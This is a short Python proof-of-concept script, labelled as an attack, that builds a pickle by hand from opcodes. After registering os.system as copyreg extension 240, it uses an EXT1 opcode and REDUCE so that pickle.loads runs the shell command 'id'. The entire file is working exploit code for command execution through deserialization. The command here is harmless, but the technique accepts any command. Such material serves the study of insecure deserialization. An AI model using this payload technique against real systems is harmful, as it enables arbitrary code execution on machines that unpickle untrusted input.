# attack: copyreg.add_extension maps extension code 240 to os.system; an EXT1 opcode in a hand-made pickle then calls it
import copyreg
import pickle

copyreg.add_extension("os", "system", 240)
payload = b"\x80\x02" + b"\x82\xf0" + b"X\x02\x00\x00\x00id" + b"\x85" + b"R" + b"."
pickle.loads(payload)
